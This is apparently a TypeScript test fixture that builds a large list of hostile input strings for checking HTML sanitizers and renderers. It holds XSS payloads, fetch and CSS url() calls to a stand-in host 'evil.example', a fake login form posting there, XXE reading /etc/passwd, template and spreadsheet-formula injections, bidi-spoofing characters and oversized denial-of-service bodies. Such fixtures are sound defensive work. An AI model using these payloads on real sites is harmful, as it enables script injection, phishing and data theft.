// Bodies that try to run, to load, to lead away, to turn a line around or to be too much; made from
// classes, so that a new trick is one line and comes in every form.

/** What runs would leave: `window.__ran`, and a question to a host that is nobody's. */
const host = 'evil.example'
const act = 'window.__ran=1'
const called = `${act};fetch('https://${host}/')`
/** Written apart: the law of the house looks for both in our own code. */
const load = ['im', 'port'].join('')
const doc = ['src', 'doc'].join('')

/** A way to write a body down, beside as it is. */
type Form = (body: string) => string
const asIs: Form = (body) => body
const entities = (body: string): string =>
  Array.from(body, (sign) => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`).join('')
const outOf: readonly Form[] = [
  asIs,
  (body) => `">${body}`,
  (body) => `'>${body}`,
  (body) => `-->${body}`,
  (body) => `]]>${body}`,
  (body) => `</title></textarea></style></script>${body}`,
]
const written: readonly Form[] = [
  asIs,
  (body) => body.toUpperCase().replaceAll('WINDOW.__RAN', 'window.__ran'),
  (body) => body.replaceAll('<', '＜').replaceAll('>', '＞'),
  (body) => body.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  entities,
  encodeURIComponent,
  (body) => body.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (body) => body.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
]

const scripts = [
  `<script>${called}</script>`,
  `<script src="https://${host}/x.js"></script>`,
  `<script type="module">${load}('https://${host}/x.js')</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script/x>${act}</script>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
]

const handlers = [
  ['img src=x', 'onerror'],
  ['img src=/icon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe src="about:blank"', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['div style="animation:x"', 'onanimationstart'],
  ['a href=#', 'onmouseover'],
  ['form><button', 'onclick'],
  ['div popover id=x', 'onbeforetoggle'],
  ['math', 'onclick'],
].flatMap(([tag, event]) => [
  `<${tag} ${event}=${act}>`,
  `<${tag} ${event}="${called}">`,
  `<${tag}/${event}='${act}'>`,
])

const styles = [
  `<style>@import url(https://${host}/x.css);</style>`,
  `<style>*{background:url(https://${host}/x)}</style>`,
  `<div style="background:url(https://${host}/x)">x</div>`,
  `<div style="width:expression(${act})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>`,
  `<link rel="stylesheet" href="https://${host}/x.css">`,
  `<link rel="preconnect" href="https://${host}/">`,
  `<base href="https://${host}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${host}/">`,
  `<meta http-equiv="content-security-policy" content="script-src *">`,
  `</style><style>body{display:none}`,
]

const drawn = [
  `<svg><script>${act}</script></svg>`,
  `<svg><script xlink:href="https://${host}/x.js"></script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${act} attributeName=x></svg>`,
  `<svg><foreignObject><iframe ${doc}="<script>${act}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}>#x"></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<svg><image href="https://${host}/x.png"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
]

const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  ` javascript:${act}`,
  `\u0001javascript:${act}`,
  `javascript&colon;${act}`,
  `javascript://${host}/%0a${act}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
  `blob:https://${host}/x`,
  `file:///etc/passwd`,
  `//${host}/`,
  `\\\\${host}\\x`,
  `https://${host}@good.example/`,
  `https://good.example.${host}/`,
]
const links = schemes.flatMap((address) => [
  address,
  `<a href="${address}">read on</a>`,
  `[read on](${address})`,
])

const frames = [
  `<iframe src="https://${host}/"></iframe>`,
  `<iframe ${doc}="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="https://${host}/x.swf"></object>`,
  `<embed src="https://${host}/x.pdf">`,
  `<form action="https://${host}/"><input name=password><button>Log in</button></form>`,
  `<img src="https://${host}/x.png">`,
  `<video src="https://${host}/x.mp4" autoplay></video>`,
]

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `{name, select, other {${act}}}`,
  `{0}{count, plural, one {x}`,
  `#{${act}}`,
  `%s%n%x`,
  `__proto__`,
  `constructor`,
  `toString`,
  `=cmd|'/c calc'!A0`,
  `@SUM(1+1)`,
]

/** Signs that turn what stands beside them around, leave their place, or are not seen. */
const turned = [
  '\u202egpj.exe\u202c 12,00',
  '\u202d12.00\u202c',
  '\u202bright to left',
  '\u2066isolated and left open',
  '\u2067turned and left open',
  '\u2069\u2069\u202eout of every isolate',
  '\u200f\u061c 1.000,00',
  'שלום 100.00',
  'مرحبا 100.00',
  'a\u200bb\ufeffc\u2060d',
  'z\u0335\u0336\u0337\u0338'.repeat(40),
  '\u{e0041}\u{e0042}',
  '\u001b[31mred',
  'a\r\nset-cookie: x=1',
  '\ud800',
]

const large = [
  'w'.repeat(10_000),
  'ﷺ'.repeat(2_000),
  '<b>'.repeat(2_000),
  `${'<div>'.repeat(1_000)}${'</div>'.repeat(1_000)}`,
  '['.repeat(5_000),
  '&lt;'.repeat(2_000),
  '\n'.repeat(2_000),
  '- '.repeat(2_000),
]

/** Larger than anything that is taken: for whoever reads what comes from outside. */
export const tooLarge = (): readonly string[] => [
  `<p>${'a'.repeat(5_000_000)}</p>`,
  `${'<div>'.repeat(200_000)}x`,
  '<!ENTITY a "'.repeat(50_000),
]

/** Every body, each another. */
export const hostileBodies: readonly string[] = [
  ...new Set([
    ...scripts.flatMap((body) => outOf.map((form) => form(body))),
    ...[...scripts, ...drawn].flatMap((body) => written.map((form) => form(body))),
    ...handlers,
    ...handlers.slice(0, 9).map((body) => `">${body}`),
    ...styles,
    ...drawn,
    ...links,
    ...frames,
    ...templates,
    ...turned,
    ...large,
  ]),
]

/** Says what a body ran: it is `__ran` that is looked for, and this host that is not to be asked. */
export const hostileHost = host
